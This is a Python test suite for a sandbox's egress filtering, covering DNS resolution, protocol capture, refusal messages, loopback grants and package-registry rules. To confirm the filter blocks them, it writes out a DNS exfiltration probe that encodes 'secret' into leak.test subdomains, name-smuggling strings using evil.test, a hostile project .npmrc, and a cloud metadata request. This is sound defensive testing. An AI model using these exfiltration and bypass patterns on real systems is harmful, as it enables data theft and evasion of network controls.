#!/usr/bin/env python3
"""Ordinary programs inside: what resolves, connects and streams as it did, and how a refusal reads."""

import http.server
import os
import shutil
import subprocess
import threading

from case import main
from in_lab import ANSWER, NO_PROXY, InLab

C_CLIENT = r"""
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char** argv) {
    struct addrinfo hints = {0}, *list = 0;
    hints.ai_socktype = SOCK_STREAM;
    int fault = getaddrinfo(argv[1], "80", &hints, &list);
    if (fault) { printf("lookup: %s\n", gai_strerror(fault)); return 1; }
    for (struct addrinfo* a = list; a; a = a->ai_next) {
        int fd = socket(a->ai_family, SOCK_STREAM, 0);
        if (connect(fd, a->ai_addr, a->ai_addrlen) != 0) { perror("connect"); return 2; }
        char text[512];
        int size = snprintf(text, sizeof text, "GET / HTTP/1.0\r\nHost: %s\r\nConnection: close\r\n\r\n", argv[1]);
        write(fd, text, size);
        while ((size = read(fd, text, sizeof text)) > 0) fwrite(text, 1, size, stdout);
        close(fd);
    }
    return 0;
}
"""
GO_CLIENT = """package main
import ("fmt"; "io"; "net/http"; "os")
func main() {
    answer, err := http.Get("http://" + os.Args[1] + "/")
    if err != nil { fmt.Println(err); os.Exit(1) }
    io.Copy(os.Stdout, answer.Body)
}
"""
NODE_CLIENT = """const dns = require('dns'), net = require('net'); const name = process.argv[2];
dns.lookup(name, {all: true}, (e, all) => { console.log('lookup', e ? e.code : all.length);
  dns.resolve4(name, (e, four) => { console.log('resolve4', e ? e.code : four.length);
    if (e) return;
    const s = net.connect(80, four[0], () => s.write(`GET / HTTP/1.0\\r\\nHost: ${name}\\r\\nConnection: close\\r\\n\\r\\n`));
    s.on('data', d => process.stdout.write(d)); }); });
"""
PYTHON_CLIENT = """import asyncio, sys, urllib.request
async def main():
    found = await asyncio.get_running_loop().getaddrinfo(sys.argv[1], 80)
    print("found", len(found))
asyncio.run(main())
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
print(opener.open("http://" + sys.argv[1] + "/", timeout=5).read().decode())
"""
ALLOW = ("--ask", "deny", "--allow", "allowed.test:80")


class Names(InLab):
    def setUp(self):
        super().setUp()
        # Names without a verdict have no address here; where the policy asks they have one at once.
        self.flags = ["--profile", self.profile('[egress]\ndefault = "deny"\n'), *ALLOW]

    def run_client(self, *command):
        """The allowed name answers; the denied one fails fast and is never asked upstream."""
        good = self.box.run(*command, "allowed.test", flags=self.flags)
        self.assertIn(ANSWER, good.stdout, good.stdout + good.stderr)
        bad = self.box.run("sh", "-c", 'date +%s%N; "$@"; date +%s%N', "sh", *command, "denied.test", flags=self.flags)
        self.assertNotIn(ANSWER, bad.stdout)
        lines = bad.stdout.splitlines()
        self.assertLess((int(lines[-1]) - int(lines[0])) / 1e9, 4.5, bad.stdout)
        self.assertIn("allowed.test", self.names_asked())
        self.assertEqual({n for n in self.names_asked() if "denied" in n}, set())
        self.assertTrue([r for r in self.denials() if "denied.test" in r["subject"]])
        return bad.stdout + bad.stderr

    def build(self, name, *command):
        """A program for the inside, in the project."""
        if not shutil.which(command[0]):
            self.skipTest(command[0] + " is not here")
        environment = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": self.box.folder, "CGO_ENABLED": "0",
                       "GOCACHE": os.path.join(self.box.folder, "go-cache"), "GOFLAGS": "-mod=mod", "GO111MODULE": "off"}
        done = subprocess.run(command, cwd=self.box.work, env=environment, capture_output=True, text=True)
        self.assertEqual(done.returncode, 0, done.stderr)
        return "./" + name

    def test_glibc(self):
        self.write("client.c", C_CLIENT)
        said = self.run_client(self.build("client", "cc", "-o", "client", "client.c"))
        self.assertIn("not known", said)

    def test_muslStatic(self):
        self.write("client.c", C_CLIENT)
        said = self.run_client(self.build("client", "musl-gcc", "-static", "-o", "client", "client.c"))
        self.assertIn("does not resolve", said)

    def test_goPure(self):
        self.write("client.go", GO_CLIENT)
        client = self.build("client", "go", "build", "-o", "client", "client.go")
        self.assertIn("no such host", self.run_client("env", "-u", "HTTP_PROXY", "-u", "http_proxy", client))

    def test_node(self):
        if not shutil.which("node", path="/usr/local/bin:/usr/bin"):
            self.skipTest("node is not here")
        self.write("client.js", NODE_CLIENT)
        said = self.run_client("node", "client.js")
        self.assertIn("lookup ENOTFOUND", said)
        self.assertIn("resolve4 ENOTFOUND", said)

    def test_python(self):
        self.write("client.py", PYTHON_CLIENT)
        self.assertIn("not known", self.run_client("/usr/bin/python3", "client.py"))

    def test_everyRecordTypeOfEveryServerStaysHere(self):
        script = """for type in A AAAA TXT SRV HTTPS MX NS PTR CNAME; do
              for server in "" @8.8.8.8 @2001:4860:4860::8888; do
                dig +time=2 +tries=1 $server $type $(echo secret | od -An -tx1 | tr -d ' ').leak.test | grep -c 'status: NXDOMAIN'
              done
            done
            dig +tcp +time=2 +tries=1 @8.8.8.8 x.leak.test | grep -c 'status:'
            dig +short +time=2 A allowed.test; dig +short +time=2 TXT allowed.test"""
        done = self.sh(script, *self.flags)
        lines = done.stdout.splitlines()
        self.assertEqual(lines[:27], ["1"] * 27, done.stdout + done.stderr)
        self.assertEqual(lines[27], "0")                     # over TCP: an address that no rule names
        self.assertTrue(lines[28].startswith("198.18."), lines)
        self.assertEqual(lines[29:], [])
        self.assertEqual({n for n in self.names_asked() if "leak" in n}, set())
        self.assertTrue([r for r in self.denials() if r["subject"].endswith(".leak.test")])

    def test_namesOutsideTheirUsualForm(self):
        rows = self.reach(["connect://allowed.test.:80", "connect://ALLOWED.test:80", "proxy://allowed.test.:80",
                           "connect://allowed.test..:80", "connect://user@allowed.test:80", "connect://allowed.test%00.evil.test:80",
                           "connect://notallowed.test:80", "connect://www.allowed.test:80", "connect://allowed.test.evil.test:80",
                           "socks://notallowed.test:80", "socks://allowed.test..:80", "connect://below.star.test:80",
                           "connect://a.b.star.test:80", "connect://star.test:80", "connect://notstar.test:80"],
                          "--allow", "allowed.test:80", "--allow", "*.star.test:80")
        good = {target: row for target, row in rows.items() if ANSWER in row["got"]}
        self.assertEqual(set(good), {"connect://allowed.test.:80", "connect://ALLOWED.test:80", "proxy://allowed.test.:80",
                                     "connect://below.star.test:80", "connect://a.b.star.test:80"})
        self.assertEqual(self.names_asked(), {"allowed.test", "below.star.test", "a.b.star.test"})


class Protocols(InLab):
    def test_everyPortIsCapturedWhereARuleSaysWhatItIs(self):
        targets = [f"tcp://allowed.test:{port}" for port in (7, 853, 2375, 5432, 6379, 9000)]
        flags = [word for port in (7, 853, 2375, 5432, 6379, 9000) for word in ("--allow", f"allowed.test:{port}/tcp")]
        for row in self.reach(targets, *flags).values():
            self.assertEqual(row["got"], "reach\n", row)
        self.refused(self.reach(["tcp://203.0.113.9:5432", "tcp://[2001:db8::9]:9000", "tcp://allowed.test:25"], *flags), 1)

    def test_anAddressNeedsARuleOfItsOwnAndThenWorksByEveryEntry(self):
        targets = ["http://203.0.113.9", "connect://203.0.113.9:80", "proxy://203.0.113.9:80", "socks://203.0.113.9:80",
                   "socksaddr://203.0.113.9:80", "socksaddr://[2001:db8::9]:80"]
        self.refused(self.reach(targets), 1)
        for target, row in self.reach(targets, "--allow", "203.0.113.9:80", "--allow", "[2001:db8::9]:80").items():
            self.assertIn(ANSWER, row["got"], row)
        script = """curl -sS --noproxy '*' -k https://203.0.113.9/
            echo | timeout 5 openssl s_client -connect 203.0.113.9:443 -servername other.test 2>&1 | grep -c 'BEGIN CERTIFICATE'"""
        lines = self.sh(script, "--ask", "deny", "--allow", "203.0.113.9:443").stdout.splitlines()
        self.assertIn(ANSWER, lines[0])
        self.assertEqual(lines[1:], ["0"], "any name would be another host behind that address")

    def test_theServerOfSshSpeaksFirstAndOnlySshIsSpoken(self):
        script = """exec 3<>/dev/tcp/ssh.test/22; read -t 2 line <&3; echo "$line"
            printf 'SSH-2.0-client\\r\\n' >&3; read -t 2 line <&3; echo "$line"
            exec 4<>/dev/tcp/ssh.test/22; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&4; read -t 2 a <&4; read -t 2 b <&4; echo "then: $b" """
        done = self.box.run("bash", "-c", script, flags=["--ask", "deny", "--allow", "ssh.test:22/ssh"])
        lines = done.stdout.splitlines()
        self.assertEqual(lines[0].rstrip(), "SSH-2.0-lab", done.stdout + done.stderr)
        self.assertIn("got:SSH-2.0-client", lines[1])
        self.assertEqual(lines[2], "then: ")
        self.assertEqual([e["body"] for e in self.seen("data")], ["SSH-2.0-client\r\n"])

    def test_aClientHelloInPiecesIsReadAsOne(self):
        script = """import socket, ssl, sys, time
context = ssl.create_default_context(cafile="ca.pem")
def hello(name, pieces):
    inside, outside = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(inside, outside, server_hostname=name)
    try: session.do_handshake()
    except ssl.SSLWantReadError: pass
    data = outside.read()
    with socket.create_connection(("allowed.test", 443), 5) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(pieces):
            s.sendall(data[len(data) * i // pieces:len(data) * (i + 1) // pieces]); time.sleep(0.05)
        try: return s.recv(1)
        except OSError as problem: return type(problem).__name__
for name in ("allowed.test", "other.test"):
    for pieces in (1, 3, 20): print(name, pieces, hello(name, pieces))"""
        self.write("hello.py", script)
        done = self.ok(self.box.run("/usr/bin/python3", "hello.py", flags=["--ask", "deny", "--allow", "allowed.test"]))
        lines = done.stdout.splitlines()
        self.assertEqual([line.endswith("b'\\x16'") for line in lines], [True] * 3 + [False] * 3, done.stdout)
        self.assertEqual({e["name"] for e in self.seen("tls")}, {"allowed.test"})

    def test_aKeptAliveConnectionCannotChangeItsHost(self):
        script = """import socket, sys
with socket.create_connection(("allowed.test", 80), 5) as s:
    for host in ("allowed.test", "other.test"):
        s.sendall(f"GET /{host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
        print(s.recv(4096).split(b"\\r\\n")[0])"""
        self.write("alive.py", script)
        done = self.ok(self.box.run("/usr/bin/python3", "alive.py", flags=ALLOW))
        self.assertIn("200", done.stdout.splitlines()[0])
        self.assertIn("421", done.stdout.splitlines()[1])
        self.assertEqual([e["host"] for e in self.seen("http")], ["allowed.test"])
        reasons = {r["reason"] for r in self.denials()}
        self.assertIn("name_inconsistent", reasons)

    def test_webSocketsCarryEveryByte(self):
        script = """import os, socket, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
def talk(s, target):
    s.sendall(f"GET {target} HTTP/1.1\\r\\nHost: ws.test:8080\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n".encode())
    got = b""
    while b"first-frame" not in got: got += s.recv(4096) or sys.exit("ended: " + repr(got))
    data = os.urandom(1 << 20); back = b""
    import threading
    threading.Thread(target=s.sendall, args=(data,), daemon=True).start()
    while len(back) < len(data):
        more = s.recv(65536)
        if not more: break
        back += more
    print(back == data)
for how in ("captured", "absolute", "connect"):
    s = socket.create_connection(("ws.test", 8080) if how == "captured" else (proxy.hostname, proxy.port), 10)
    if how == "connect":
        s.sendall(b"CONNECT ws.test:8080 HTTP/1.1\\r\\nHost: ws.test:8080\\r\\n\\r\\n"); s.recv(4096)
    talk(s, "http://ws.test:8080/ws" if how == "absolute" else "/ws")"""
        self.write("ws.py", script)
        done = self.ok(self.box.run("/usr/bin/python3", "ws.py", flags=["--ask", "deny", "--allow", "ws.test:8080/http"]))
        self.assertEqual(done.stdout.split(), ["True"] * 3)

    def test_streamsFlowAsTheyCome(self):
        script = """import sys, time, urllib.request
opener = urllib.request.build_opener(*([urllib.request.ProxyHandler({})] if sys.argv[1] == "direct" else []))
answer, last, times = opener.open("http://allowed.test/stream", timeout=10), time.monotonic(), []
for line in answer:
    if line.startswith(b"data:"):
        now = time.monotonic(); times.append(now - last); last = now
print(len(times), max(times[1:]), min(times[1:]))"""
        self.write("stream.py", script)
        for how in ("direct", "proxied"):
            done = self.ok(self.box.run("/usr/bin/python3", "stream.py", how, flags=ALLOW))
            count, most, least = done.stdout.split()
            self.assertEqual(count, "5")
            self.assertLess(float(most), 0.4, done.stdout)       # every 0.2 s, lag below 0.2
            self.assertGreater(float(least), 0.05, done.stdout)  # and not all at once

    def test_icmpAndRawSocketsAreNotThere(self):
        script = """import socket
for kind, proto in ((socket.SOCK_DGRAM, socket.IPPROTO_ICMP), (socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.SOCK_RAW, 255)):
    try:
        s = socket.socket(socket.AF_INET, kind, proto); s.settimeout(1)
        s.sendto(b"\\x08\\0\\xf7\\xfe\\0\\1\\0\\0", ("203.0.113.9", 0)); print(s.recv(99))
    except OSError as problem: print(type(problem).__name__)"""
        self.write("icmp.py", script)
        done = self.ok(self.box.run("/usr/bin/python3", "icmp.py", flags=ALLOW))
        self.assertEqual(done.stdout.split(), ["PermissionError"] * 3)


class Refusals(InLab):
    def text(self, *command):
        done = self.box.run("sh", "-c", 'date +%s%N; "$@" 2>&1; date +%s%N', "sh", *command, flags=ALLOW)
        lines = done.stdout.splitlines()
        self.assertLess((int(lines[-1]) - int(lines[0])) / 1e9, 15, done.stdout)
        return "\n".join(lines[1:-1])

    def test_curlIsToldWhyInOneAnswer(self):
        said = self.text("curl", "-sS", "-i", "http://denied.test/")
        self.assertIn("403", said)
        self.assertIn("Leadglass-Decision:", said)
        self.assertIn("refused by Leadglass", said)
        self.assertIn("denied.test", said)
        self.assertIn("--allow", said)
        self.assertNotIn("allowed.test", said, "it never lists what would have been allowed")
        self.assertRegex(self.text("curl", "-sS", "https://denied.test/"), "403|CONNECT tunnel failed")

    def test_gitSaysThatItWasRefused(self):
        for scheme in ("http", "https"):
            said = self.text("git", "ls-remote", f"{scheme}://denied.test/x.git")
            self.assertRegex(said, "403|not resolve")

    def test_pythonAndNodeSayThatItWasRefused(self):
        said = self.text("/usr/bin/python3", "-c", "import urllib.request; urllib.request.urlopen('http://denied.test/')")
        self.assertIn("HTTP Error 403", said)
        if shutil.which("node", path="/usr/local/bin:/usr/bin"):
            said = self.text("node", "-e", "fetch('http://denied.test/').then(r => console.log(r.status), e => console.log(e.cause.code))")
            self.assertRegex(said, "403|ENOTFOUND")

    def test_theEndOfTheRunTellsWhatWasRefused(self):
        done = self.sh("curl -sS http://denied.test/ http://denied.test/ http://other.test/", *ALLOW)
        self.assertRegex(done.stderr, r"refused: denied\.test:80: .*2 times")
        self.assertIn("refused: other.test:80", done.stderr)

    def test_everyRowNamesReasonOriginAndProcess(self):
        self.sh(NO_PROXY + "curl -sS http://203.0.113.9/; curl -sS http://denied.test/; curl -sS http://169.254.169.254/", *ALLOW)
        rows = {r["subject"]: r for r in self.denials() if r["kind"] == "egress"}
        self.assertEqual(rows["203.0.113.9:80"]["reason"], "literal_needs_rule")
        self.assertEqual(rows["169.254.169.254:80"]["reason"], "hard_denial:metadata")
        self.assertTrue(rows["denied.test:80"]["origin"])
        for row in rows.values():
            self.assertRegex(row["process"], r"^\d+ curl \(/usr/bin/curl\) < sh")
            self.assertNotIn("bwrap", row["process"])


class Loopback(InLab):
    def server(self, port):
        class Hello(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"host-loopback")

            def log_message(self, *_):
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Hello)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)

    def test_aGrantedPortIsReachedByEveryNameAndEntryAndNoOther(self):
        self.server(18123)
        self.server(18124)
        hosts = ("localhost", "127.0.0.1", "[::1]")
        targets = [f"{kind}://{host}:18123" for kind in ("http", "connect", "proxy") for host in hosts]
        others = [target.replace("18123", "18124") for target in targets]
        rows = self.reach(targets + others, "--allow", "loopback:18123")
        for target in targets:
            self.assertIn("host-loopback", rows[target]["got"], rows[target])
        for target in others:
            self.assertNotIn("host-loopback", rows[target]["got"], rows[target])
        self.assertEqual(self.sh("curl -sS http://localhost:18123/; curl -sS --noproxy '*' http://127.0.0.1:18123/",
                                 "--ask", "deny", "--allow", "loopback:18123").stdout, "host-loopback" * 2)


class Registries(InLab):
    def test_theHostComesFromThePersonsClientAndNotFromTheProject(self):
        with open(os.path.join(self.box.home, ".npmrc"), "w", encoding="ascii") as handle:
            handle.write("registry=http://packages.test:8080/npm/\n")
        os.chmod(os.path.join(self.box.home, ".npmrc"), 0o600)
        self.write(".npmrc", "registry=http://evil.test:8080/\n")
        profile = self.profile('[egress]\ndefault = "deny"\nallow = [{ registry = "npm" }]\n')
        rows = self.reach(["http://packages.test:8080", "http://evil.test:8080"], "--profile", profile)
        self.assertIn(ANSWER, rows["http://packages.test:8080"]["got"], rows)
        self.assertNotIn(ANSWER, rows["http://evil.test:8080"]["got"])
        self.assertEqual(self.names_asked(), {"packages.test"})


if __name__ == "__main__":
    main(lab=True)
